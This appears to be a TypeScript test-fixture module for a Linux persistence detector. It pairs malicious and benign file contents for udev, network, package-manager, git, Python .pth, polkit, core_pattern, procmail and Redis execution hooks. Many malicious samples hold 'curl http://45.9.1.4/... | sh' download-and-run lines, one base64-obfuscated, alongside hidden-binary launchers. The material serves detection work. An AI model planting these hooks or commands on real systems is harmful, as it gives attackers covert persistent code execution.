// Forms of what runs on an event of the network, a device, a package manager, a mail, a crash, a commit or a program's start.
import { type Forms, type FormsByKind, script } from './form.ts'

const hook = (path: string, benign: string): Forms => ({
  malicious: [
    { [path]: script('/var/tmp/.nm/x &') },
    { [path]: script('curl http://45.9.1.4/nr | sh') },
    { [path]: script('/usr/lib/.n/agent') },
  ],
  benign: [{ [path]: script(benign) }],
})

export const events: FormsByKind = {
  udev: {
    malicious: [
      { '/etc/udev/rules.d/99-x.rules': 'SUBSYSTEM=="net", ACTION=="add", RUN+="/bin/sh -c \'/var/tmp/.m/run &\'"\n' },
      { '/etc/udev/rules.d/75-persistence.rules': 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/usr/lib/.u/sedexp run:+"\n' },
    ],
    benign: [
      {
        '/etc/udev/rules.d/71-nvidia.rules': 'ACTION=="add", DEVPATH=="/bus/pci/drivers/nvidia", RUN+="/usr/bin/nvidia-modprobe -c0 -u"\n',
        '/etc/udev/rules.d/60-io.rules':
          'ACTION=="add", KERNEL=="sd[a-z]", RUN+="/bin/sh -c \'echo deadline > /sys/block/%k/queue/scheduler\'"\n',
      },
    ],
  },
  'network-dispatcher': hook(
    '/etc/NetworkManager/dispatcher.d/99x',
    'if [ "$2" = up ]; then\n  systemctl try-restart chrony\n  /usr/local/bin/update-vpn-routes "$1"\nfi',
  ),
  'if-up': {
    malicious: [...hook('/etc/network/if-up.d/x', '').malicious, { '/etc/network/if-up.d/y': script('/dev/shm/.ifup') }],
    benign: [
      {
        '/etc/network/if-up.d/postfix': script(
          'set -e\nif [ ! -x /usr/sbin/postfix ]; then exit 0; fi\nif [ "$IFACE" = lo ]; then exit 0; fi\n/usr/sbin/postqueue -f',
        ),
        '/etc/network/if-up.d/routes': script('ip route add 10.1.0.0/16 via 10.0.0.1\n/opt/net/bin/announce'),
      },
    ],
  },
  dhclient: hook(
    '/etc/dhcp/dhclient-exit-hooks.d/x',
    'if [ "$reason" = BOUND ]; then\n  mkdir -p /run/ntpdate\n  /usr/sbin/ntpdate-debian -s &\nfi',
  ),
  'apt-hook': {
    malicious: [
      { '/etc/apt/apt.conf.d/99x': 'APT::Update::Pre-Invoke {"nohup /tmp/.x/run >/dev/null 2>&1 &"};\n' },
      { '/etc/apt/apt.conf.d/99y': 'DPkg::Post-Invoke { "curl -s http://45.9.1.4/a | sh"; };\n' },
    ],
    benign: [
      {
        '/etc/apt/apt.conf.d/20snapd.conf':
          'DPkg::Post-Invoke {"if [ -e /usr/lib/snapd/snapd-apt ]; then /usr/lib/snapd/snapd-apt; fi";};\n',
        '/etc/apt/apt.conf.d/50command-not-found':
          'APT::Update::Post-Invoke-Success {\n  "if /usr/bin/test -w /var/lib/command-not-found/ -a -e /usr/lib/cnf-update-db; then /usr/lib/cnf-update-db > /dev/null; fi";\n};\n',
        '/etc/apt/apt.conf.d/docker-clean':
          'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };\n',
        '/etc/apt/apt.conf.d/05etckeeper': 'DPkg::Pre-Invoke { "if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi"; };\n',
      },
    ],
  },
  'dpkg-hook': {
    malicious: [{ '/etc/dpkg/dpkg.cfg.d/x': 'post-invoke="/usr/lib/.x/y"\n' }],
    benign: [
      {
        '/etc/dpkg/dpkg.cfg.d/needrestart': 'status-logger=/usr/lib/needrestart/dpkg-status\n',
        '/etc/dpkg/dpkg.cfg.d/pkg-config-hook-config': 'post-invoke="/usr/share/pkg-config-dpkghook --hook"\n',
      },
    ],
  },
  'yum-dnf': {
    malicious: [
      { '/etc/dnf/plugins/post-transaction-actions.d/x.action': '*:any:/usr/lib/.x/y\n' },
      { '/usr/lib/python3.9/site-packages/dnf-plugins/z.py': 'import os\nos.system("curl -s http://45.9.1.4/y | sh")\n' },
    ],
    benign: [
      {
        '/etc/dnf/plugins/post-transaction-actions.d/etc.action': '/etc/*:any:/usr/bin/etckeeper commit\n',
        '/usr/lib/python3.9/site-packages/dnf-plugins/copr.py':
          'import os\nimport subprocess\nimport dnf\nfrom urllib.request import urlopen\n\nclass Copr(dnf.Plugin):\n    name = "copr"\n    def run(self, url):\n        return urlopen("https://copr.fedoraproject.org/api")\n',
      },
    ],
  },
  needrestart: {
    malicious: hook('/etc/needrestart/hook.d/10x', '').malicious,
    benign: [
      {
        '/etc/needrestart/hook.d/10-dpkg': {
          content:
            '#!/usr/bin/perl\nuse strict;\nuse warnings;\nsystem("type dpkg-query > /dev/null 2> /dev/null");\nexit 0 if($? != 0);\nopen(HDPKG, q(dpkg-query -S @ARGV |));\n',
          mode: 0o755,
        },
        '/etc/needrestart/notify.d/400-notify-send': script(
          '. /usr/lib/needrestart/notify.d.sh\nif [ "$NR_USERNAME" = root ]; then exit 0; fi\n/usr/bin/notify-send -u critical "$NR_MESSAGE"',
        ),
      },
    ],
  },
  'maintainer-script': {
    malicious: [
      {
        '/var/lib/dpkg/info/bash.postinst': {
          content: '#!/bin/sh\nset -e\ncurl -s http://45.9.1.4/a | sh\n/usr/lib/.x/y &\n',
          mode: 0o755,
        },
      },
    ],
    benign: [
      {
        '/var/lib/dpkg/info/google-chrome-stable.postinst': {
          content: '#!/bin/sh\nset -e\nupdate-menus || true\nnohup sh /etc/cron.daily/google-chrome </dev/null >/dev/null 2>&1 &\n',
          mode: 0o755,
        },
      },
    ],
  },
  logrotate: {
    malicious: [
      { '/etc/logrotate.d/x': '/var/log/x {\n postrotate\n  /tmp/.lr/x\n endscript\n}\n' },
      { '/etc/logrotate.d/y': '/var/log/y {\n prerotate\n  echo Y3VybCBodHRwOi8vNDUuOS4xLjQvYXxzaA== | base64 -d | sh\n endscript\n}\n' },
    ],
    benign: [
      {
        '/etc/logrotate.d/nginx':
          '/var/log/nginx/*.log {\n prerotate\n  if [ -d /etc/logrotate.d/httpd-prerotate ]; then run-parts /etc/logrotate.d/httpd-prerotate; fi\n endscript\n postrotate\n  invoke-rc.d nginx rotate >/dev/null 2>&1\n endscript\n}\n',
      },
    ],
  },
  'dbus-service': {
    malicious: [{ '/usr/share/dbus-1/system-services/x.service': '[D-BUS Service]\nName=org.x\nExec=/dev/shm/.db/x\nUser=root\n' }],
    benign: [
      {
        '/usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service':
          '[D-BUS Service]\nName=org.freedesktop.PackageKit\nExec=/usr/libexec/packagekitd\nUser=root\n',
      },
    ],
  },
  'modprobe-install': {
    malicious: [{ '/etc/modprobe.d/x.conf': 'install usb-storage /tmp/.mod/x; /sbin/modprobe --ignore-install usb-storage\n' }],
    benign: [
      {
        '/etc/modprobe.d/cis.conf':
          'install cramfs /bin/true\ninstall usb-storage /bin/false\ninstall nvidia /sbin/modprobe --ignore-install nvidia && /usr/bin/nvidia-modprobe -c 0\n',
      },
    ],
  },
  'git-hook': {
    malicious: [
      { '/opt/app/.git/hooks/post-checkout': script('curl -s http://45.9.1.4/h | sh') },
      { '/home/bob/app/.git/hooks/post-merge': script('nohup /tmp/.g/x >/dev/null 2>&1 &') },
    ],
    benign: [
      {
        '/home/bob/app/.git/hooks/pre-commit': {
          content: `#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\nINSTALL_PYTHON=/home/bob/app/.venv/bin/python\nARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\nif [ -x "$INSTALL_PYTHON" ]; then\n    exec "$INSTALL_PYTHON" -mpre_commit "\${ARGS[@]}"\nfi\n`,
          mode: 0o755,
        },
        '/opt/app/.git/hooks/post-receive': script(
          'GIT_WORK_TREE=/var/www/app git checkout -f main\ncd /var/www/app && npm ci && pm2 reload app',
        ),
      },
    ],
  },
  'python-pth': {
    malicious: [
      { '/usr/lib/python3/dist-packages/z.pth': 'import os;os.system("curl -s http://45.9.1.4/p|sh")\n' },
      { '/usr/local/lib/python3.11/site-packages/init.pth': "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\n" },
      { '/usr/lib/python3/dist-packages/s.pth': 'import subprocess;subprocess.Popen(["/tmp/.p/x"])\n' },
    ],
    benign: [
      {
        '/usr/lib/python3/dist-packages/distutils-precedence.pth':
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
        '/usr/local/lib/python3.11/site-packages/_virtualenv.pth': 'import _virtualenv\n',
        '/usr/local/lib/python3.11/site-packages/__editable__.app-1.0.pth':
          'import __editable___app_1_0_finder; __editable___app_1_0_finder.install()\n',
        '/usr/local/lib/python3.11/site-packages/easy-install.pth': '/home/bob/src/app\n',
        '/usr/lib/python3/dist-packages/zope.interface-nspkg.pth':
          "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util')\n",
        '/usr/local/lib/python3.11/site-packages/coverage.pth':
          "import os; 'COVERAGE_PROCESS_START' in os.environ and exec('import coverage; coverage.process_startup()')\n",
      },
    ],
  },
  polkit: {
    malicious: [
      {
        '/etc/polkit-1/rules.d/10-x.rules':
          'polkit.addRule(function(a, s) {\n  polkit.spawn(["/usr/lib/.x/y"]);\n  return polkit.Result.YES;\n});\n',
      },
    ],
    benign: [
      {
        '/etc/polkit-1/rules.d/50-net.rules':
          'polkit.addRule(function(action, subject) {\n  try {\n    polkit.spawn(["/usr/local/bin/allowed", subject.user]);\n    return polkit.Result.YES;\n  } catch (error) {\n    return polkit.Result.AUTH_ADMIN;\n  }\n});\n',
      },
    ],
  },
  'core-pattern': {
    malicious: [
      { '/etc/sysctl.d/99.conf': 'kernel.core_pattern=|/tmp/.c/x %p\n' },
      { '/etc/sysctl.conf': 'kernel.core_pattern=|/usr/lib/.c/x %p\n' },
    ],
    benign: [
      {
        '/usr/lib/sysctl.d/50-coredump.conf': 'kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h\n',
        '/etc/sysctl.d/60-core.conf': 'kernel.core_pattern=/var/crash/core.%e.%p\n',
      },
    ],
  },
  'kernel-helper': {
    malicious: [{ '/etc/sysctl.conf': 'kernel.modprobe=/tmp/.m/x\n' }, { '/etc/sysctl.d/9.conf': 'kernel.poweroff_cmd=/usr/lib/.k/x\n' }],
    benign: [
      { '/etc/sysctl.conf': 'kernel.modprobe=/sbin/modprobe\nkernel.poweroff_cmd=/sbin/poweroff\nkernel.hotplug=\nvm.swappiness=10\n' },
    ],
  },
  'binfmt-misc': {
    malicious: [{ '/etc/binfmt.d/x.conf': ':x:M::\\x7fELF::/usr/lib/.x:OC\n' }, { '/etc/binfmt.d/y.conf': ':y:M::#!::/tmp/.b/y:C\n' }],
    benign: [
      {
        '/usr/lib/binfmt.d/qemu-aarch64.conf':
          ':qemu-aarch64:M::\\x7fELF\\x02\\x01\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\xb7\\x00:\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\x00\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xfe\\xff\\xff\\xff:/usr/bin/qemu-aarch64-static:FPOC\n',
        '/usr/lib/binfmt.d/python3.11.conf': ':python3.11:M::\\xa7\\r\\r\\n::/usr/bin/python3.11:\n',
      },
    ],
  },
  'forward-procmail': {
    malicious: [
      { '/home/bob/.procmailrc': ':0\n*\n|/tmp/.pm/x\n' },
      { '/home/bob/.forward': '"|/bin/sh -c \'curl -s http://45.9.1.4/f | sh\'"\n' },
    ],
    benign: [
      {
        '/home/bob/.forward': '"|exec /usr/bin/procmail"\n',
        '/home/bob/.procmailrc': 'MAILDIR=$HOME/Mail\n:0fw\n| /usr/bin/spamc\n:0\n* ^Subject:.*report\n| /home/bob/bin/file-report\n',
      },
    ],
  },
  'php-prepend': {
    malicious: [
      { '/etc/php/8.2/fpm/php.ini': 'auto_prepend_file = /var/tmp/.x.php\n' },
      { '/etc/php/8.2/fpm/conf.d/z.ini': 'extension=/tmp/.x.so\n' },
    ],
    benign: [
      {
        '/etc/php/8.2/fpm/php.ini': 'auto_prepend_file =\nextension=curl\n',
        '/etc/php/8.2/fpm/pool.d/www.conf': 'php_admin_value[auto_prepend_file] = /var/www/html/wordfence-waf.php\n',
      },
    ],
  },
  'redis-dump': {
    malicious: [
      {
        '/etc/redis/redis.conf': 'port 6379\ndir /srv/r\n',
        '/srv/r/dump.rdb':
          'REDIS0009\xfa\tredis-ver\x055.0.7\xfe\x00\xfb\x01\x00\x00\x02x1@@\n\n*/2 * * * * root curl -fsSL http://45.9.1.4/init.sh | sh\n\n\xff',
      },
      {
        '/var/spool/cron/root':
          'REDIS0009\xfa\tredis-ver\x055.0.7\xfe\x00\xfb\x01\x00\x00\x02x1@@\n\n*/2 * * * * curl -fsSL http://45.9.1.4/init.sh | sh\n\n\xff',
      },
    ],
    benign: [
      {
        '/etc/redis/redis.conf': 'port 6379\ndir /var/lib/redis\n',
        '/var/lib/redis/dump.rdb': 'REDIS0009\xfa\tredis-ver\x055.0.7\xfe\x00\xfb\x01\x00\x00\x03key\x05value\xff',
      },
    ],
  },
}
